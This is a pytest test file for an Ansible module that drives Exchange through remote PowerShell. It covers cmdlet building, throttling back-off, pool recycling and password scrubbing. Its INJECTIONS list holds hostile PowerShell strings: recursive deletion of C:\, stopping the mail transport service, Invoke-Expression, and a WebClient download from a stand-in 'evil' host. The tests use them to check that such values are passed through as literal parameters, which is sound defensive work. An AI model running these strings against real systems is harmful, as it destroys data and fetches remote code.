# -*- coding: utf-8 -*-
# Copyright: xphone.connect contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)

from __future__ import annotations

import pytest

from fake_exchange import FakeError, FakeExchange, FakeWarning, Raise

from ansible_collections.xphone.connect.plugins.module_utils import connection, errors, remote_domain
from ansible_collections.xphone.connect.plugins.module_utils.exchange_session import ExchangeSession, to_plain

PASSWORD = "Sup3r-Secret-Pw!"
# Every kind of quote PowerShell knows, subexpressions, backticks, newlines and statement separators.
INJECTIONS = [
    "x'; Remove-Item C:\\ -Recurse; '",
    'x"; Stop-Service MSExchangeTransport; "',
    "x\u2018; calc; \u2019",
    "x\u201a; calc; \u201b",
    "x\u201c$(Get-Process)\u201d",
    "`$env:USERNAME`n",
    "line1\nline2; Invoke-Expression 'evil'",
    "$(New-Object Net.WebClient).DownloadString('http://evil')",
]


def make_settings(**extra):
    params = dict((k, None) for k in connection.CONNECTION_OPTIONS)
    params.update(connection_server="ex01.alleo.intern", username="ALLEO\\admin", password=PASSWORD)
    params.update(extra)
    return connection.resolve_settings(params)[0]


@pytest.fixture
def fx():
    return FakeExchange()


@pytest.fixture
def sleeps():
    return []


@pytest.fixture
def session(fx, sleeps):
    sess = ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append)
    yield sess
    sess.close()


def test_cmdlets_and_parameters_only(session, fx):
    session.invoke("Set-RemoteDomain", [("Identity", "Default"), ("ContentType", "MimeText")])
    ps = fx.recorded[-1]
    assert ps.calls[0] == ("add_cmdlet", "Set-RemoteDomain")
    assert ("add_parameter", "ContentType", "MimeText") in ps.calls
    assert ("add_parameter", "Confirm", False) in ps.calls
    assert not hasattr(ps, "add_script_called")
    assert ps.closed


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_strings_arrive_as_literal_parameter_values(value, fx, sleeps):
    fx.remote_domains.append(dict(Name="fax", Identity="fax", DomainName="fax.alleo.intern"))
    with ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append) as sess:
        sess.invoke("Set-RemoteDomain", [("Identity", "fax"), ("Name", value)])
    ps = fx.call("Set-RemoteDomain")[0]
    assert [c for c in ps.calls if c[0] == "add_cmdlet"] == [("add_cmdlet", "Set-RemoteDomain")]
    assert ("add_parameter", "Name", value) in ps.calls
    assert fx.remote_domains[-1]["Name"] == value


def test_domain_controller_added_to_every_cmdlet(fx, sleeps):
    with ExchangeSession(make_settings(domain_controller="dc01.alleo.intern"), transport=fx, sleep=sleeps.append) as sess:
        sess.invoke("Get-RemoteDomain")
        sess.invoke("Set-RemoteDomain", {"Identity": "Default", "NDREnabled": True})
    for ps in fx.recorded:
        assert ("DomainController", "dc01.alleo.intern") in ps.params


def test_no_domain_controller_when_not_given(session, fx):
    session.invoke("Get-RemoteDomain")
    assert "DomainController" not in dict(fx.recorded[0].params)


def test_reads_get_no_confirm(session, fx):
    session.invoke("Get-RemoteDomain")
    assert fx.recorded[0].params == []


def test_one_pool_per_session_closed_at_exit(fx, sleeps):
    with ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append) as sess:
        sess.invoke("Get-RemoteDomain")
        sess.invoke("Get-SendConnector")
    assert len(fx.pools) == 1 and fx.pools[0].closed
    assert all(ps.closed for ps in fx.recorded)


def test_pool_closed_when_the_step_fails(fx, sleeps):
    with pytest.raises(errors.CmdletFailed):
        with ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append) as sess:
            fx.faults.append(lambda ps: ps.streams.error.append(FakeError("boom")))
            sess.invoke("Get-RemoteDomain")
    assert fx.pools[0].closed


def test_non_terminating_error_is_raised_although_had_errors_is_false(session, fx):
    fx.faults.append(lambda ps: ps.streams.error.append(FakeError("Exchange said no")))
    with pytest.raises(errors.CmdletFailed) as err:
        session.invoke("Set-RemoteDomain", {"Identity": "Default"})
    assert "Exchange said no" in err.value.message and "Set-RemoteDomain" in err.value.message


def test_not_found_is_empty_when_allowed(session):
    assert session.invoke("Set-RemoteDomain", {"Identity": "nope"}, not_found_ok=True) == []
    with pytest.raises(errors.NotFound):
        session.invoke("Set-RemoteDomain", {"Identity": "nope"})


def test_warnings_are_collected(session, fx):
    fx.warn_on_set = "The command completed successfully but no settings of 'Default' have been modified."
    session.invoke("Set-RemoteDomain", {"Identity": "Default", "NDREnabled": True})
    assert session.warnings == [fx.warn_on_set]


def ok(ps):
    del ps


def throttle(ps):
    ps.streams.error.append(FakeError("This user is allowed a maximum of 18 concurrent shells, which has been exceeded."))


def test_throttling_backs_off_then_succeeds(session, fx, sleeps):
    fx.faults.extend([throttle, throttle])
    assert session.invoke("Get-RemoteDomain")[0]["Name"] == "Default"
    assert sleeps == [5, 10]


def test_throttling_is_bounded_and_names_the_policy(session, fx, sleeps):
    fx.faults.extend([throttle] * 10)
    with pytest.raises(errors.Throttled) as err:
        session.invoke("Get-RemoteDomain")
    assert "PowerShellMaxConcurrency" in err.value.message
    assert len(sleeps) == 4 and sum(sleeps) <= 120


def test_throttled_at_open(fx, sleeps):
    class Quota(Exception):
        pass
    fx.open_faults.append(Quota("The WS-Management service cannot process the request. This user is allowed a maximum "
                                "of 18 concurrent shells, which has been exceeded."))
    with ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append) as sess:
        sess.invoke("Get-RemoteDomain")
    assert sleeps == [5] and len(fx.pools) == 1


def test_authentication_is_final_and_scrubbed(fx, sleeps):
    class AuthenticationError(Exception):
        pass
    fx.open_faults.extend([AuthenticationError("Failed to authenticate ALLEO\\admin with password %s" % PASSWORD)] * 3)
    sess = ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append)
    with pytest.raises(errors.AuthenticationFailed) as err:
        sess.invoke("Get-RemoteDomain")
    assert PASSWORD not in err.value.message and "********" in err.value.message
    assert sleeps == [] and len(fx.open_faults) == 2, "a rejected password must not be retried"


def test_missing_rbac_role_is_final(session, fx, sleeps):
    with pytest.raises(errors.AuthorizationFailed) as err:
        session.invoke("New-Frobnicator", {"Name": "x"})
    assert "RBAC" in err.value.message and sleeps == []


def test_cmdlet_error_text_is_scrubbed(session, fx):
    fx.faults.append(lambda ps: ps.streams.error.append(FakeError("bad value %s" % PASSWORD)))
    with pytest.raises(errors.ExchangeError) as err:
        session.invoke("Get-RemoteDomain")
    assert PASSWORD not in str(err.value)


def test_added_secret_is_scrubbed(session, fx):
    session.add_secret("SecureStringValue-42")
    fx.faults.append(lambda ps: ps.streams.error.append(FakeError("could not convert SecureStringValue-42")))
    with pytest.raises(errors.ExchangeError) as err:
        session.invoke("Get-RemoteDomain")
    assert "SecureStringValue-42" not in str(err.value)


def test_transport_error_is_classified_and_scrubbed(session, fx):
    class WinRMTransportError(Exception):
        code = 500

    def fail(ps):
        raise Raise(WinRMTransportError("500 body with %s for %s" % (PASSWORD, ps.cmdlet)))

    fx.faults.append(fail)
    with pytest.raises(errors.ConnectionFailed) as err:
        session.invoke("Get-RemoteDomain")
    assert PASSWORD not in err.value.message


def test_shell_lost_redoes_the_step_once_on_a_new_pool(fx, sleeps):
    def lost(ps):
        ps.streams.error.append(FakeError(
            "The request for the Windows Remote Shell with ShellId 1 failed because the shell was not found on the server."))

    params = dict((k, None) for k in remote_domain.ARGUMENT_SPEC)
    params.update(name="fax", domain_name="fax.alleo.intern", state="present", content_type="MimeText")
    fx.faults.extend([ok, ok, lost])  # Get, New succeed; Set loses the shell
    with ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append) as sess:
        result = remote_domain.run(sess, params)
    assert len(fx.pools) == 2 and fx.pools[0].closed
    assert result["changed"] is True
    assert [d for d in fx.remote_domains if d["Name"] == "fax"][0]["ContentType"] == "MimeText"


def test_shell_lost_twice_fails(fx, sleeps):
    def lost(ps):
        ps.streams.error.append(FakeError("shell was not found"))

    fx.faults.extend([lost, lost])
    with ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append) as sess:
        with pytest.raises(errors.ShellLost):
            sess.run_step(lambda s: s.invoke("Get-RemoteDomain"))


def test_to_plain_flattens_pypsrp_objects():
    class Obj(object):
        def __init__(self, props=None, to_string=None, sets=None):
            self.adapted_properties = props or {}
            self.extended_properties = {}
            self.to_string = to_string
            self.property_sets = sets or []
    enum = Obj(to_string="MimeText", sets=[1])
    ident = Obj({"Name": "fax", "DistinguishedName": "CN=fax"}, to_string="fax")
    multi = Obj(to_string="{SMTP:a.b;1, SMTP:c.d;1}", sets=[[Obj(to_string="SMTP:a.b;1"), "SMTP:c.d;1"]])
    top = Obj({"Name": "fax", "ContentType": enum, "Identity": ident, "AddressSpaces": [Obj(to_string="SMTP:a.b;1")],
               "SmartHosts": multi, "Empty": Obj(to_string="{}", sets=[[]])})
    assert to_plain(top) == {"Name": "fax", "ContentType": "MimeText", "Identity": "fax", "AddressSpaces": ["SMTP:a.b;1"],
                             "SmartHosts": ["SMTP:a.b;1", "SMTP:c.d;1"], "Empty": []}


def test_warning_records_scrubbed(session, fx):
    fx.faults.append(lambda ps: ps.streams.warning.append(FakeWarning("careful with %s" % PASSWORD)))
    session.invoke("Get-RemoteDomain")
    assert session.warnings and PASSWORD not in session.warnings[0]


def test_pool_recycled_before_the_commands_per_shell_quota(fx, sleeps):
    with ExchangeSession(make_settings(), transport=fx, sleep=sleeps.append, recycle_after=3) as sess:
        for _index in range(7):
            sess.invoke("Get-RemoteDomain")
    assert len(fx.pools) == 3 and all(pool.closed for pool in fx.pools)
    assert [len([ps for ps in fx.recorded if ps.pool is pool]) for pool in fx.pools] == [3, 3, 1]
